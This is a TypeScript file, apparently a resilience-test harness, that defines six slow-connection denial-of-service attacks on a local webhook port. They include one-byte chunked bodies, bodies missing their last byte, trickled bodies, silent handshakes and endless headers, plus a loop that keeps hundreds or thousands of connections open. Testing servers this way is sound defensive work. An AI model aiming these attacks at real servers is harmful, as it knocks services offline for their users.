/** What a stranger may do to the webhook's port, each as a life of one connection that begins again when it is closed. */
import { connect as connectTcp, type Socket } from "node:net";
import { connect } from "node:tls";

export type Attack = {
  readonly says: string;
  readonly connections: number;
  /** New ones at most in a second, so that the attacker's own start is no pause. */
  readonly perSecond: number;
  readonly tls: boolean;
  /** Called once the connection stands; answers what is to be repeated, and after how many milliseconds. */
  readonly begin: (socket: Socket) => { readonly everyMs: number; readonly again: () => void } | undefined;
};

const POST = "POST /mutate HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n";
const LIMIT_BYTES = 7 * 1024 * 1024;
const ALL_BUT_ONE = Buffer.alloc(LIMIT_BYTES - 1, " ");
/** 1 000 chunks of one byte each. */
const CHUNKS = "1\r\nx\r\n".repeat(1_000);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  chunks: {
    says: "4 connections send chunks of one byte without end",
    connections: 4,
    perSecond: 20,
    tls: true,
    begin: (socket) => {
      socket.write(`${POST}transfer-encoding: chunked\r\n\r\n`);
      return { everyMs: 2, again: () => socket.writableLength < 1_000_000 && socket.write(CHUNKS) };
    },
  },
  parked: {
    says: "500 connections park bodies that lack their last byte",
    connections: 500,
    perSecond: 60,
    tls: true,
    begin: (socket) => {
      socket.write(`${POST}content-length: ${LIMIT_BYTES}\r\n\r\n`);
      socket.write(ALL_BUT_ONE);
      return undefined;
    },
  },
  trickle: {
    says: "500 connections send bodies at 1 byte a second",
    connections: 500,
    perSecond: 200,
    tls: true,
    begin: (socket) => {
      socket.write(`${POST}content-length: ${LIMIT_BYTES}\r\n\r\n`);
      return { everyMs: 1_000, again: () => socket.write(" ") };
    },
  },
  handshakes: {
    says: "5 000 connections finish their handshake and are silent",
    connections: 5_000,
    perSecond: 250,
    tls: true,
    begin: () => undefined,
  },
  silence: {
    says: "5 000 connections without a handshake",
    connections: 5_000,
    perSecond: 1_000,
    tls: false,
    begin: () => undefined,
  },
  heads: {
    says: "200 connections send heads without end",
    connections: 200,
    perSecond: 100,
    tls: true,
    begin: (socket) => {
      socket.write(POST);
      return { everyMs: 20, again: () => socket.write("x-more: and more\r\n") };
    },
  },
};

export type AttackTally = { opened: number; closed: number };

/** Until the process ends. */
export function attack({ connections, perSecond, tls, begin }: Attack, port: number, tally: AttackTally): void {
  let wanted = connections;
  const open = (): void => {
    tally.opened += 1;
    const where = { host: "127.0.0.1", port };
    const socket = tls ? connect({ ...where, rejectUnauthorized: false }) : connectTcp(where);
    let repeat: NodeJS.Timeout | undefined;
    socket.once(tls ? "secureConnect" : "connect", () => {
      const more = begin(socket);
      if (more !== undefined) repeat = setInterval(() => socket.writable && more.again(), more.everyMs);
    });
    // Answers are read, or the server could wait for that.
    socket.resume();
    socket.on("error", () => undefined);
    socket.once("close", () => {
      clearInterval(repeat);
      tally.closed += 1;
      wanted += 1;
    });
  };
  const stepMs = 20;
  let due = 0;
  setInterval(() => {
    due = Math.min(due + (perSecond * stepMs) / 1_000, perSecond);
    for (; due >= 1 && wanted > 0; due -= 1) {
      wanted -= 1;
      open();
    }
  }, stepMs);
}
